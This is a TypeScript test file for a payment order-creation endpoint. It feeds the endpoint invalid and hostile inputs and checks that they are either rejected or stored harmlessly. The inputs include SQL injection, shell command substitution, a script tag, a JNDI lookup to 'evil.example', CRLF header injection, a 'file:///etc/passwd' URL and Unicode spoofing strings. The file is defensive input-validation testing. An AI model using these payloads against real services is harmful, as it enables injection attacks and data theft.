import type { Case, Theme } from "../support/case.ts";
import { GIVEN } from "../support/given.ts";
import { ROUTES } from "../support/routes.ts";
import { formTo, good } from "../support/signing.ts";

const ROUTE = "POST /pay/create-order";
const page = { accessToken: GIVEN.accessToken, url: "https://shop.example/?code=1" };

/** What WeChat would refuse or garble in any text. */
const UNSENDABLE: Readonly<Record<string, string>> = {
  NUL: "a\u0000b",
  "a carriage return and a line's end": "a\r\nX-Evil: 1",
  "an escape of a terminal": "\u001b[2J\u001b]0;x\u0007",
  "a backspace": "abc\b\b\b",
  "a delete": "a\u007f",
  "a next line": "a\u0085b",
  "a character that is none": "a\uffff",
  "an emoji": "書📚",
  "a flag": "🇨🇳",
  "a letter of four bytes": "𠮷",
  "a tag's letter": "a\u{e0041}",
};

/** Texts that some layer might take for more than text. */
const TEXT: Readonly<Record<string, string>> = {
  "with SQL": "'); drop table orders; --",
  "with a template": "${process.env} {{7*7}} #{1} <%= 1 %>",
  "with a format": "%s%n%x %d $1 \\1",
  "with a shell's words": "`id` $(id) | id; id &",
  "with markup": "<script>alert(1)</script>",
  "with XML's end of CDATA": "]]><sign>x</sign><![CDATA[",
  "with an entity": "&lt;&amp;&xxe;",
  "with a lookup": "${jndi:ldap://evil.example/a}",
  "with a line's end and a log line": 'a\n{"level":"error","event":"forged"}',
  "with quotes and backslashes": "\"'\\\"'\\",
  "from right to left": "\u202etxt.exe\u2066",
  "with marks upon a letter": `a${"\u0301".repeat(10)}`,
  "with look-alikes": "раураӏ",
  "with a zero width": "a\u200b\u200d\ufeffb",
  "with a plus and an escape": "a+b%2Bc%00d",
  "that is a prototype's name": "__proto__",
  "that is a JSON text": '{"totalFree":1}',
  "that is a number": "1e400",
  "of blanks": "   ",
};

const TOO_MUCH: Readonly<Record<string, readonly [parameter: string, value: string]>> = {
  "openId of 129 characters": ["openId", "o".repeat(129)],
  "desc of 128 bytes": ["desc", "d".repeat(128)],
  "desc of 43 characters of three bytes": ["desc", "書".repeat(43)],
  "desc of sixty thousand bytes": ["desc", "d".repeat(60_000)],
  "tag of 33 characters": ["tag", "t".repeat(33)],
  "attach of 128 bytes": ["attach", "a".repeat(128)],
  "appOrderNo of 65 characters": ["appOrderNo", "a".repeat(65)],
  "appOrderNo with a slash": ["appOrderNo", "../../x"],
  "appOrderNo with a blank": ["appOrderNo", "a b"],
  "appOrderNo with a percent sign, as `like` knows it": ["appOrderNo", "%"],
  "appOrderNo with SQL": ["appOrderNo", "' or 1=1--"],
  "appOrderNo with a line's end": ["appOrderNo", "a\n"],
  "appOrderNo in look-alikes": ["appOrderNo", "ｎｏ-1"],
  "tradeType of another kind": ["tradeType", "NATIVE"],
  "tradeType in small letters": ["tradeType", "jsapi"],
  "tradeType with a blank": ["tradeType", "JSAPI "],
  "platForm of Alipay": ["platForm", "2"],
  "clientIp that is a name": ["clientIp", "localhost"],
  "clientIp with a port": ["clientIp", "203.0.113.7:80"],
  "clientIp in octal": ["clientIp", "0177.0.0.1"],
  "clientIp in one number": ["clientIp", "2130706433"],
  "clientIp in short": ["clientIp", "127.1"],
  "clientIp with a zone": ["clientIp", "fe80::1%eth0"],
  "clientIp of two addresses": ["clientIp", "203.0.113.7, 10.0.0.1"],
  "clientIp with a line's end": ["clientIp", "203.0.113.7\n"],
  "accessToken without url": ["accessToken", GIVEN.accessToken],
  "url without accessToken": ["url", "https://shop.example/"],
};

const URLS: readonly string[] = [
  "javascript:alert(1)",
  "data:text/html,x",
  "file:///etc/passwd",
  "//shop.example/",
  "https:/\u0000/shop.example",
  "https://shop example/",
  "https://shop.example/\r\nX: 1",
  `https://shop.example/${"a".repeat(2048)}`,
];

const refused = (name: string, values: Record<string, string>, parameter: string): Case => ({
  name,
  route: ROUTE,
  answer: "app 501",
  about: new RegExp(`${parameter} `),
  request: (scene) => formTo(ROUTE, scene, good(ROUTES[ROUTE], scene, values)),
});

export const appTexts: Theme = [
  ...["openId", "desc", "tag", "attach"].flatMap((parameter) =>
    Object.entries(UNSENDABLE).map(([name, value]) =>
      refused(`${parameter} with ${name}`, { [parameter]: value }, parameter),
    ),
  ),
  ...Object.entries(TOO_MUCH).map(([name, [parameter, value]]) =>
    refused(name, { [parameter]: value }, "[A-Za-z]+"),
  ),
  ...URLS.map((url) => refused(`url ${JSON.stringify(url.slice(0, 40))}`, { ...page, url }, "url")),
  ...Object.entries(TEXT).map(([name, text]): Case => ({
    name: `granted: texts ${name}`,
    route: ROUTE,
    answer: "app 0",
    may: "rows",
    request: (scene) => {
      const short = text.slice(0, 32);
      const values = { openId: text, desc: text, attach: text, tag: short };
      return formTo(ROUTE, scene, good(ROUTES[ROUTE], scene, values));
    },
  })),
  {
    name: "granted: an OAuth token, which is signed and forgotten",
    route: ROUTE,
    answer: "app 0",
    may: "rows",
    request: (scene) => formTo(ROUTE, scene, good(ROUTES[ROUTE], scene, page)),
  },
];
